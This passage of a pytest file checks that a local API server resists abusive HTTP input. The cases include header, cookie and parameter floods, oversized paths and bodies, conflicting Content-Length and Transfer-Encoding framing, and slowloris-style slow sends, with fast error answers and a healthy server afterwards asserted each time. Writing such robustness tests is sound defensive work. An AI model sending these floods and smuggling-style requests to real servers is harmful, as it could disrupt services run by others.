    with socket.create_connection(("127.0.0.1", server.port), timeout=12) as connection:
        for part in parts:
            if select.select([connection], [], [], pause)[0]:
                break
            connection.sendall(part)
        while not whole(received) and (chunk := connection.recv(65536)):
            received += chunk
    assert received.startswith(b"HTTP/1.1 "), received[:200]
    return int(received[9:12]), received.decode()


def whole(answer: bytes) -> bool:
    top, end, body = answer.partition(b"\r\n\r\n")
    length = re.search(rb"(?i)content-length: (\d+)", top)
    return bool(end and length) and len(body) >= int(length[1])  # type: ignore[index]


MANY, HUGE = 10_000, "x" * 1_000_000
POST = ("POST", "/api/boards", "Content-Type: application/json")
FLOODS: dict[str, tuple[int, tuple[str, ...], list[bytes]]] = {
    "10,000 parameters": (
        422, ("GET", f"/api/boards?{'&'.join(map(str, range(MANY)))}"), []),
    "one parameter 10,000 times": (422, ("GET", f"/api/boards?limit=1{'&limit' * MANY}"), []),
    "10,000 separators": (200, ("GET", f"/api/boards?{'&' * MANY}"), []),
    "1,000 headers": (
        200, ("GET", "/api/boards", *(f"X-{n}: {MARK}" for n in range(1000)), "Cookie: x=x"), []),
    "10,000 headers": (
        431, ("GET", "/api/boards", *(f"X-{n}: {MARK}" for n in range(MANY))), []),
    "1,000 cookies": (
        200, ("GET", "/api/boards", f"Cookie: {'; '.join(f'c{n}=x' for n in range(1000))}"), []),
    "10,000 cookies": (
        431, ("GET", "/api/boards", f"Cookie: {'; '.join(f'c{n}=x' for n in range(MANY))}"), []),
    "trailers without end": (
        431, (*POST, "Transfer-Encoding: chunked"),
        [b"2\r\n{}\r\n0\r\n", *[b"X: y\r\n" * 1000] * 1000]),
    "a path of 60 KB": (422, ("GET", f"/api/boards/{HUGE[:60_000]}"), []),
    "a path of 60 KB that is none": (404, ("GET", f"/{'/' * 60_000}"), []),
    "a path of 1 MB": (400, ("GET", f"/api/boards/{HUGE}"), []),
    "a query of 1 MB": (400, ("GET", f"/api/boards?cursor={HUGE}"), []),
    "a picture of 60 KB": (422, ("GET", f"/api/avatars/{'%ff' * 20_000}.svg"), []),
    "a type of 60 KB": (
        415, (*POST[:2], f"Content-Type: {HUGE[:60_000]}", "Content-Length: 2"), [b"{}"]),
    "a body of 50 MB": (413, (*POST, "Content-Length: 50000000"), [b" " * 100_000] * 500),
    "a body of 50 MB in chunks": (
        413, (*POST, "Transfer-Encoding: chunked"),
        [b"186A0\r\n" + b" " * 100_000 + b"\r\n"] * 500),
    "two lengths": (400, (*POST, "Content-Length: 2", "Content-Length: 3"), [b"{}"]),
    "a length and chunks": (
        400, (*POST, "Content-Length: 2", "Transfer-Encoding: chunked"), [b"{}"]),
    "a length below zero": (400, (*POST, "Content-Length: -1"), [b"{}"]),
    "a length beyond all": (400, (*POST, f"Content-Length: {'9' * 30}"), [b"{}"]),
    "a line break in a header": (400, ("GET", "/api/boards", f"X: a\0{MARK}"), []),
    "no path": (400, ("GET", ""), []),
    "no method": (400, ("X" * 100, "/api/boards"), []),
}  # fmt: skip


@pytest.mark.parametrize("name", FLOODS)
def test_a_flood_gets_a_short_answer(server: Server, cookie: str, name: str) -> None:
    status, request, body = FLOODS[name]
    if not any(header.startswith("Cookie") for header in request):
        request = (*request, cookie)
    elif status == 200:
        request = (*request[:-1], f"{request[-1]}; {cookie.removeprefix('Cookie: ')}")
    found, told = answer(server, head(*request), *body)
    assert found == status, told[:500]
    assert len(told) < 150_000
    if status >= 400:
        assert "content-type: application/problem+json" in told
    assert httpx.get(f"{server.address}/health/ready").status_code == 200


OPEN = f"GET /api/boards HTTP/1.1\r\nHost: corkboard.test\r\nX: {MARK}"
HEADS = {
    "a header of 50 MB": [HUGE.encode()] * 50,
    "a header in small pieces": [b"x" * 5000] * 10_000,
    "headers without end": [b"\r\n", *[b"X: y\r\n" * 1000] * 10_000],
}


@pytest.mark.parametrize("name", HEADS)
def test_a_head_without_end_is_cut_off(server: Server, name: str) -> None:
    """It is anybody's to send, without a session."""
    begin = time.monotonic()
    found, told = answer(server, OPEN.encode(), *HEADS[name])
    assert found == 431
    assert MARK not in told
    assert time.monotonic() - begin < 2


@pytest.mark.parametrize("sent", [b"", b"GET /api/boards HTTP/1.1\r\nHost: ", b"\r\n\r\n"])
def test_a_head_that_never_comes_is_not_waited_for(server: Server, sent: bytes) -> None:
    found, told = answer(server, sent or b"\r\n")
    assert (found, "10 seconds" in told) == (408, True)


def test_a_body_that_trickles_in_is_given_up(server: Server, cookie: str) -> None:
    begin = time.monotonic()
    request = head(*POST, cookie, "Content-Length: 900000")
    found, told = answer(server, request, *[b" " * 100] * 40, pause=0.25)
    assert (found, "5 seconds" in told) == (400, True)
    assert time.monotonic() - begin < 9


def test_a_flood_leaves_no_trace(server: Server, cookie: str) -> None:
    """After all of the above: nothing was stored, and nothing went wrong inside."""
    boards = httpx.get(f"{server.address}/api/boards", headers=[cookie.split(": ", 1)])  # type: ignore[arg-type]
    assert (boards.status_code, boards.json()) == (200, [])
    log = server.log.read_text()
    assert "Traceback" not in log
    assert " 500" not in log
